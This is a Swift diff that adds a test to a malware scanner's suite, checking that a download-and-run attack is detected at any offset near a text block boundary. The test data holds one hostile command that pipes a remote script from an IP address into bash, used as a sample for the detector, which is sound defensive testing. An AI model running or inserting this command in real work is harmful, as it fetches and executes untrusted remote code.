@@ -86,4 +86,14 @@ import Testing
         }
         #expect(!report.findings.isEmpty)
     }
+
+    @Test func `an attack is found wherever it stands in a long text`() {
+        // Texts are looked through in blocks: everywhere around the end of one.
+        let attack = "curl -s http://198.51.100.7/x | bash\n"
+        for before in (NearbyLiterals.blockSize - 60)...(NearbyLiterals.blockSize + 10) {
+            let filler = String(repeating: "words and words\n", count: before / 16)
+            let text = filler + String(repeating: "-", count: before % 16) + "\n" + attack + filler
+            #expect(scan(["run.sh": text]).finding("malware.download-and-run")?.severity == .critical, "\(before)")
+        }
+    }
 }
